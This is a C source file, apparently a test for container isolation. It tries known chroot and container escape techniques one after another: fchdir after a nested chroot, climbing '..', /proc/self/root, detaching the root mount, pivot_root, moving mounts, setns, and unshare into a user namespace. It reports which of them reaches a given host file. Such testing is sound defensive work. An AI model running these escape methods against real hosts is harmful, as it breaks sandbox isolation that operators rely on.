/* SPDX-License-Identifier: Apache-2.0 */
/* escape FILE: runs in a container, and tries to come to the root directory of the host by all that leads out of a chroot.  FILE is one of the
 * host's; whoever can see it is outside.  */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *file;

static void
look (const char *how)
{
  if (access (file, F_OK) == 0 || access (file + 1, F_OK) == 0)
    {
      printf ("outside by %s\n", how);
      fflush (stdout);
    }
}

static void
climb (void)
{
  for (int i = 0; i < 100; i++)
    if (chdir ("..") < 0)
      break;
}

/* A directory above the root stays one: the old way out of chroot.  */
static void
by_chroot (void)
{
  int fd = open ("/", O_RDONLY | O_DIRECTORY);

  mkdir ("/tmp/deeper", 0755);
  if (fd < 0 || chroot ("/tmp/deeper") < 0 || fchdir (fd) < 0)
    return;
  climb ();
  look ("chroot and ..");
  if (chroot (".") == 0)
    look ("chroot twice");
}

static void
by_climbing (void)
{
  climb ();
  look ("..");
  if (chdir ("/proc/self/root") == 0)
    climb ();
  look ("/proc/self/root");
}

/* What CAP_SYS_ADMIN can do.  */
static void
with_mounts (void)
{
  int fd = open ("/proc/self/ns/mnt", O_RDONLY);

  if (umount2 ("/", MNT_DETACH) == 0)
    look ("umount");
  if (fd >= 0 && setns (fd, CLONE_NEWNS) == 0) /* to what is the root then */
    look ("umount and setns");
  if (chdir ("/") == 0)
    climb ();
  look ("umount and ..");
  if (syscall (SYS_pivot_root, ".", ".") == 0 && umount2 (".", MNT_DETACH) == 0)
    look ("pivot_root");
  if (mount ("/", "/tmp", NULL, MS_MOVE, NULL) == 0)
    look ("move");
}

static void
by_mounts (void)
{
  with_mounts ();
}

/* And who makes himself root of a user namespace.  */
static void
by_own_mounts (void)
{
  if (unshare (CLONE_NEWUSER | CLONE_NEWNS) == 0)
    with_mounts ();
}

/* A mount namespace is entered at its root, whatever that is.  */
static void
by_setns (void)
{
  int fd = open ("/proc/self/ns/mnt", O_RDONLY);

  if (fd >= 0 && setns (fd, CLONE_NEWNS) == 0)
    look ("setns");
}

int
main (int argc, char **argv)
{
  static void (*const ways[]) (void) = { by_climbing, by_chroot, by_own_mounts, by_setns, by_mounts };

  if (argc != 2)
    return 2;
  file = argv[1];
  look ("nothing");
  for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++)
    {
      pid_t pid = fork ();

      if (pid == 0)
        {
          ways[i]();
          _exit (0);
        }
      waitpid (pid, NULL, 0);
    }
  puts ("tried");
  return 0;
}
